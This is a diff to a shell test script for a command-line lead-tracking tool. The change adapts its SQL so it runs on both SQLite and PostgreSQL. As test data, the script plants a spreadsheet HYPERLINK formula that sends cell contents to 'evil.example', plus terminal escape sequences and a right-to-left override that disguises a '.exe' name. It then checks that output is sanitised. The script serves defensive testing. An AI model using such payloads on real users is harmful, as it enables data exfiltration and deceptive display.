@@ -8,7 +8,7 @@ export CALLQ_NOW=$daytime LANG=C.UTF-8
 unset LC_ALL
 export XDG_CONFIG_HOME=$scratch/xdg
 
-db=$scratch/out.db
+floor_db out
 cq() { "$bin" --db "$db" "$@"; }
 cq init >/dev/null
 cq region add East --country US >/dev/null
@@ -22,10 +22,20 @@ for name in '=HYPERLINK("http://evil.example/?"&A1,"Click")' \
 	cq lead add --name "$name" --phone "+1 212-736-0$n" --region East \
 	    >/dev/null
 done
+# Controls for the tests' own SQL, written raw into its string literals,
+# which both drivers read (SQLite's char() is not PostgreSQL's chr()).
+tab=$(printf '\t')
+cr=$(printf '\r.')
+cr=${cr%.}
+esc=$(printf '\033')
+bel=$(printf '\007')
+csi=$(printf '\302\233')	# U+009B, C1 CSI
+rlo=$(printf '\342\200\256')	# U+202E, right-to-left override
+pdi=$(printf '\342\201\251')	# U+2069, pop directional isolate
 # Values only an older database holds, as the input refuses them now.
-sqlite3 "$db" "UPDATE leads SET name = char(9) || 'Tab first'
+"$sq" "$db" "UPDATE leads SET name = '$tab' || 'Tab first'
     WHERE phone_e164 = '+12127360105';
-    UPDATE leads SET street = char(13) || 'CR first'
+    UPDATE leads SET street = '$cr' || 'CR first'
     WHERE phone_e164 = '+12127360106'"
 cq lead list --format csv >"$scratch/leads.csv"
 cq lead list --format json >"$scratch/leads.json"
@@ -115,7 +125,7 @@ bel=$(printf '\007')
 csi=$(printf '\302\233')	# U+009B, a C1 control
 rlo=$(printf '\342\200\256')	# U+202E, right-to-left override
 tab=$(printf '\t')
-audit_count() { sqlite3 "$db" "SELECT count(*) FROM audit"; }
+audit_count() { "$sq" "$db" "SELECT count(*) FROM audit"; }
 # No control a terminal acts on (line ends aside) in file $1.
 clean() {
 	! LC_ALL=C grep -qP '[\x00-\x09\x0b\x0c\x0e-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]' "$1"
@@ -184,19 +194,20 @@ ok "an extension with ESC is refused, the sentence masked" \
 
 # An older database: raw ESC, BEL, C1 and bidi in what callq prints.
 cq --as rep1 log "$vid" --disposition Busy --note fine >/dev/null
-sqlite3 "$db" "
-    UPDATE leads SET name = 'Evil' || char(27) || '[2J' || char(7) ||
-        char(155) || 'x' || char(8238) || 'gnp.exe'
+"$sq" "$db" "
+    UPDATE leads SET name = 'Evil' || '$esc' || '[2J' || '$bel' ||
+        '$csi' || 'x' || '$rlo' || 'gnp.exe'
         WHERE name IN ('Victim Deli', 'Never Called');
     INSERT INTO notes (lead_id, user_id, body, created_at) VALUES
-        ($vid, 1, 'note' || char(27) || ']0;owned' || char(7), $daytime);
-    UPDATE calls SET note = 'ok' || char(27) || '[31m' || char(8238)
+        ($vid, 1, 'note' || '$esc' || ']0;owned' || '$bel', $daytime);
+    UPDATE calls SET note = 'ok' || '$esc' || '[31m' || '$rlo'
         WHERE lead_id = $vid;
-    UPDATE users SET name = 'Rep' || char(155) || 'One' WHERE login = 'rep1';
-    INSERT OR REPLACE INTO settings (key, value)
-        VALUES ('work_hours', '09:00' || char(27) || '[8m');
+    UPDATE users SET name = 'Rep' || '$csi' || 'One' WHERE login = 'rep1';
+    INSERT INTO settings (key, value)
+        VALUES ('work_hours', '09:00' || '$esc' || '[8m')
+        ON CONFLICT (key) DO UPDATE SET value = excluded.value;
     UPDATE audit SET details = '{\"note\":\"a\\u001b[5m' ||
-        char(8297) || '\"}' WHERE id = (SELECT max(id) FROM audit)"
+        '$pdi' || '\"}' WHERE id = (SELECT max(id) FROM audit)"
 cq lead list >"$scratch/o.list"
 cq lead show "$vid" >"$scratch/o.show"
 cq timeline "$vid" >"$scratch/o.timeline"
